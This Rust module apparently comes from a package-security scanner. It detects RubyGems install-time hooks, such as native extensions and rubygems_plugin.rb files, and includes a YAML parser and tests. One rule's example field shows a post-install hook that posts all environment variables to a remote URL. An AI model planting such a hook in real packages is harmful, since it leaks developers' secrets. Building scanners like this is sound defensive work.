//! RubyGems packages: a `.gem` (a tar holding `metadata.gz`, the gem specification as
//! YAML, and `data.tar.gz`, the files), or a source folder with a `*.gemspec`.
//!
//! `gem install` builds every entry of the spec's `extensions` list by running it
//! (`ruby extconf.rb` then `make`, `rake`, `cmake`, `cargo`), which is the gem
//! ecosystem's install-time hook.
//!
//! The YAML is read line by line, never with a YAML library: a hostile document with
//! nested aliases expands exponentially in a full parser, and only three keys matter.

use crate::common::{Ctx, EntryExt, Identity, MAX_ENTRIES_PER_FILE, entry, manifest_bytes};
use crate::text::{lines, quoted_at, quoted_literals, resolve, skip_blanks};
use palisade_core::{Category, Ecosystem, EntryPoint, Phase, RuleInfo, Severity};

pub static EXTENSION: RuleInfo = RuleInfo {
    id: "install/gem-extension",
    category: Category::InstallTime,
    severity: Severity::Low,
    summary: "The gem declares a native extension, which `gem install` builds by running it.",
    why: "Each entry of `extensions` is a Ruby script (extconf.rb, a Rakefile) or a build \
          file run on every machine that installs the gem. Honest gems use it to compile C \
          or Rust code; a malicious one can run anything there.",
    example: "extensions: [ext/foo/extconf.rb]",
    attack: Some("T1195.002"),
};

pub static PLUGIN: RuleInfo = RuleInfo {
    id: "install/gem-rubygems-plugin",
    category: Category::InstallTime,
    severity: Severity::Low,
    summary: "The gem ships a `rubygems_plugin.rb`, which RubyGems loads by itself on every `gem` command once the gem is installed.",
    why: "A RubyGems plugin runs without anyone requiring the gem: every later `gem install`, \
          `gem update` or `bundle` that loads RubyGems runs it, and `Gem.post_install` lets \
          it act on each gem installed afterwards. Gem tooling uses plugins to add \
          commands; a malicious gem uses one to run on every developer command.",
    example: "lib/rubygems_plugin.rb: Gem.post_install { |i| Net::HTTP.post(URI(u), ENV.to_h.to_json) }",
    attack: Some("T1546"),
};

/// The file RubyGems loads from each folder of an installed gem's load path.
const PLUGIN_FILE: &str = "rubygems_plugin.rb";

const SPEC_PATH: &str = "metadata.gz!/metadata";
const DATA_PREFIX: &str = "data.tar.gz!/";

/// Lines of the spec read; a spec listing every file of a large gem has tens of
/// thousands.
const MAX_SPEC_LINES: usize = 500_000;

pub(crate) fn gem(ctx: &Ctx) -> Option<Identity> {
    let spec = ctx.get(SPEC_PATH);
    let has_data = ctx
        .files
        .iter()
        .any(|f| f.path == "data.tar.gz" || f.path.starts_with(DATA_PREFIX));
    if spec.is_none() && !(ctx.exists("metadata.gz") && has_data) {
        return None;
    }
    let format = if ctx.is_tar() { "gem" } else { ctx.format };
    let mut id = Identity::new(Some(Ecosystem::RubyGems), ctx.format_as(format), "");
    let Some(spec) = spec else {
        id.unreadable("metadata.gz", "not a readable gzip stream", None);
        return Some(id);
    };
    id.manifest_path = Some(SPEC_PATH.to_string());
    let Some(data) = manifest_bytes(spec, &mut id) else {
        return Some(id);
    };
    let parsed = parse_spec(data);
    id.set_name(parsed.name.as_deref());
    id.set_version(parsed.version.as_deref());
    if id.name.is_none() {
        id.unreadable(SPEC_PATH, "no `name:` key in the gem specification", None);
    }
    for (offset, extension) in parsed.extensions {
        let point = extension_entry(ctx, SPEC_PATH, DATA_PREFIX, &extension);
        id.entry_points.push(point.evidence(data, offset));
    }
    id.entry_points
        .extend(plugin_entries(ctx, DATA_PREFIX, &parsed.require_paths));
    Some(id)
}

/// The entry points of a gem's RubyGems plugin: `rubygems_plugin.rb` in any folder
/// of its load path (`lib` when the spec lists none).
/// A load-path folder as the package's own path prefix (`lib/`, or empty for the gem's
/// root), with `.`, `..` and repeated slashes resolved; `None` when it leaves the gem.
fn normalised(folder: &str) -> Option<String> {
    let mut parts: Vec<&str> = Vec::new();
    for part in folder.split('/') {
        match part {
            "" | "." => {}
            ".." => {
                parts.pop()?;
            }
            part => parts.push(part),
        }
    }
    Some(parts.iter().map(|p| format!("{p}/")).collect())
}

fn plugin_entries(ctx: &Ctx, base: &str, require_paths: &[String]) -> Vec<EntryPoint> {
    let default = [String::from("lib")];
    let paths = if require_paths.is_empty() {
        &default[..]
    } else {
        require_paths
    };
    paths
        .iter()
        .filter_map(|folder| {
            let folder = normalised(folder)?;
            let path = format!("{base}{folder}{PLUGIN_FILE}");
            ctx.exists(&path).then(|| {
                let message =
                    format!("{folder}{PLUGIN_FILE} is loaded by every `gem` command after install");
                entry(&PLUGIN, Phase::Install, &path, message).runs(vec![path.clone()])
            })
        })
        .collect()
}

/// A gem's source: a folder (or archive) whose root holds a `*.gemspec`.
pub(crate) fn gemspec(ctx: &Ctx, root: &str) -> Option<Identity> {
    let file = ctx
        .children(root)
        .into_iter()
        .find(|f| f.path.ends_with(".gemspec"))?;
    let mut id = Identity::new(Some(Ecosystem::RubyGems), ctx.format_as(ctx.format), root);
    id.manifest_path = Some(file.path.clone());
    let data = &file.data;
    id.set_name(assigned_literal(data, ".name"));
    id.set_version(assigned_literal(data, ".version"));
    if id.name.is_none() {
        let reason = "no literal `.name = \"...\"`; a gemspec is Ruby code and is not run";
        id.unreadable(&file.path, reason, None);
    }
    let mut from = 0;
    while id.entry_points.len() < MAX_ENTRIES_PER_FILE
        && let Some(found) = memchr::memmem::find(&data[from..], b".extensions")
    {
        let at = from + found;
        let list = gemspec_list(data, at + ".extensions".len());
        for extension in list.into_iter().take(MAX_ENTRIES_PER_FILE) {
            let point = extension_entry(ctx, &file.path, root, &extension);
            id.entry_points.push(point.evidence(data, at));
        }
        from = at + 1;
    }
    let mut require_paths = Vec::new();
    // `.require_paths = [...]`, or the singular `.require_path = "x"`.
    if let Some(at) = memchr::memmem::find(data, b".require_path") {
        let after = at + ".require_path".len();
        let after = after + usize::from(data.get(after) == Some(&b's'));
        require_paths = gemspec_list(data, after);
        require_paths.truncate(MAX_ENTRIES_PER_FILE);
    }
    id.entry_points
        .extend(plugin_entries(ctx, root, &require_paths));
    Some(id)
}

fn extension_entry(ctx: &Ctx, declared_in: &str, base: &str, extension: &str) -> EntryPoint {
    let how = match extension.rsplit('/').next().unwrap_or(extension) {
        "extconf.rb" => "runs ruby extconf.rb, then make",
        "Rakefile" | "mkrf_conf.rb" => "runs rake",
        "CMakeLists.txt" => "runs cmake",
        "Cargo.toml" => "runs cargo, including any build.rs",
        "configure" => "runs the configure script, then make",
        _ => "runs a builder chosen by file name",
    };
    let runs = resolve(base, extension)
        .filter(|path| ctx.exists(path))
        .into_iter()
        .collect();
    let message = format!(
        "gem extension {} is built on install ({how})",
        crate::text::clip(extension, 120)
    );
    entry(&EXTENSION, Phase::Install, declared_in, message).runs(runs)
}

#[derive(Debug, Default, PartialEq)]
struct Spec {
    name: Option<String>,
    version: Option<String>,
    /// Each extension with the offset of the line naming it.
    extensions: Vec<(usize, String)>,
    /// The folders RubyGems puts on the load path (`lib` when none is listed).
    require_paths: Vec<String>,
}

/// Reads the keys that matter from the YAML that `Gem::Specification#to_yaml` writes.
fn parse_spec(data: &[u8]) -> Spec {
    let mut spec = Spec::default();
    let mut section = String::new();
    for (offset, raw) in lines(data, MAX_SPEC_LINES) {
        let line = String::from_utf8_lossy(raw);
        let top_level = !line.starts_with([' ', '\t', '-', '#']) && !line.is_empty();
        if top_level {
            let Some((key, value)) = line.split_once(':') else {
                section.clear();
                continue;
            };
            section = key.to_string();
            let value = value.trim();
            match key {
                "name" if spec.name.is_none() => spec.name = scalar(value),
                "version" if spec.version.is_none() && !value.starts_with('!') => {
                    spec.version = scalar(value);
                }
                "extensions" if value.starts_with('[') => {
                    let items = value.trim_matches(['[', ']']).split(',');
                    let items = items.filter_map(scalar).map(|item| (offset, item));
                    spec.extensions.extend(items.take(MAX_ENTRIES_PER_FILE));
                }
                "require_paths" if value.starts_with('[') => {
                    let items = value.trim_matches(['[', ']']).split(',');
                    let items = items.filter_map(scalar);
                    spec.require_paths.extend(items.take(MAX_ENTRIES_PER_FILE));
                }
                _ => {}
            }
            continue;
        }
        let item = line.trim_start();
        match section.as_str() {
            // `version: !ruby/object:Gem::Version` holds the string one level down.
            "version" if spec.version.is_none() => {
                if let Some(value) = item.strip_prefix("version:") {
                    spec.version = scalar(value);
                }
            }
            "extensions" => {
                if let Some(value) = item.strip_prefix("- ")
                    && spec.extensions.len() < MAX_ENTRIES_PER_FILE
                {
                    let indent = line.len() - item.len();
                    spec.extensions
                        .extend(scalar(value).map(|v| (offset + indent, v)));
                }
            }
            "require_paths" => {
                if let Some(value) = item.strip_prefix("- ")
                    && spec.require_paths.len() < MAX_ENTRIES_PER_FILE
                {
                    spec.require_paths.extend(scalar(value));
                }
            }
            _ => {}
        }
    }
    spec
}

/// A YAML scalar without quotes or trailing comment; `None` when empty or not a
/// plain value (an alias, a tag).
fn scalar(value: &str) -> Option<String> {
    let value = value.trim();
    let value = match value.chars().next()? {
        q @ ('\'' | '"') => value[1..].split(q).next().unwrap_or(""),
        '*' | '&' | '!' | '{' | '[' | '|' | '>' => return None,
        _ => value.split(" #").next().unwrap_or(value).trim(),
    };
    (!value.is_empty()).then(|| value.to_string())
}

/// The string literal in `x.name = "..."`.
fn assigned_literal<'d>(data: &'d [u8], attribute: &str) -> Option<&'d str> {
    memchr::memmem::find_iter(data, attribute.as_bytes()).find_map(|at| {
        let after = at + attribute.len();
        if data
            .get(after)
            .is_some_and(|&b| b.is_ascii_alphanumeric() || b == b'_')
        {
            return None;
        }
        let eq = skip_blanks(data, after);
        (data.get(eq) == Some(&b'=') && data.get(eq + 1) != Some(&b'='))
            .then(|| quoted_at(data, skip_blanks(data, eq + 1)))
            .flatten()
    })
}

/// The strings of `= [...]`, `= %w[...]`, `<< "..."` following `.extensions`.
fn gemspec_list(data: &[u8], at: usize) -> Vec<String> {
    let start = skip_blanks(data, at);
    let rest = &data[start..data.len().min(start + 2048)];
    let rest = rest
        .strip_prefix(b"<<")
        .or_else(|| rest.strip_prefix(b"=").filter(|r| !r.starts_with(b"=")));
    let Some(rest) = rest else {
        return Vec::new();
    };
    let rest = &rest[skip_blanks(rest, 0)..];
    if let Some(words) = rest.strip_prefix(b"%w") {
        let close = match words.first() {
            Some(b'[') => b']',
            Some(b'(') => b')',
            Some(b'{') => b'}',
            _ => return Vec::new(),
        };
        let end = words
            .iter()
            .position(|&b| b == close)
            .unwrap_or(words.len());
        return String::from_utf8_lossy(&words[1.min(end)..end])
            .split_whitespace()
            .map(str::to_string)
            .collect();
    }
    let end = if rest.starts_with(b"[") {
        rest.iter().position(|&b| b == b']').unwrap_or(rest.len())
    } else {
        rest.iter().position(|&b| b == b'\n').unwrap_or(rest.len())
    };
    quoted_literals(&rest[..end])
        .into_iter()
        .map(str::to_string)
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn spec_keys_are_read_from_psych_yaml() {
        let yaml = b"--- !ruby/object:Gem::Specification\nname: 'nokogiri'\nversion: !ruby/object:Gem::Version\n  version: 1.16.0\nplatform: ruby\nextensions:\n- ext/nokogiri/extconf.rb\nexecutables: []\n";
        let spec = parse_spec(yaml);
        assert_eq!(spec.name.as_deref(), Some("nokogiri"));
        assert_eq!(spec.version.as_deref(), Some("1.16.0"));
        let at = memchr::memmem::find(yaml, b"- ext/").unwrap();
        assert_eq!(
            spec.extensions,
            vec![(at, "ext/nokogiri/extconf.rb".to_string())]
        );
    }

    #[test]
    fn aliases_and_flow_lists_are_handled_without_expansion() {
        let spec = parse_spec(b"name: x\nextensions: [a/extconf.rb, \"b/Rakefile\"]\nfiles: *1\n");
        let names: Vec<_> = spec.extensions.iter().map(|e| e.1.as_str()).collect();
        assert_eq!(names, vec!["a/extconf.rb", "b/Rakefile"]);
        assert_eq!(scalar("*1"), None);
    }

    #[test]
    fn gemspec_lists_are_read() {
        let data = b"s.extensions = %w[ext/a/extconf.rb ext/b/extconf.rb]";
        assert_eq!(
            gemspec_list(data, 12),
            vec!["ext/a/extconf.rb", "ext/b/extconf.rb"]
        );
        let data = b"s.extensions << 'ext/c/extconf.rb'\n";
        assert_eq!(gemspec_list(data, 12), vec!["ext/c/extconf.rb"]);
        assert_eq!(assigned_literal(b"s.name = \"foo\"", ".name"), Some("foo"));
        assert_eq!(assigned_literal(b"s.name == \"foo\"", ".name"), None);
    }
}
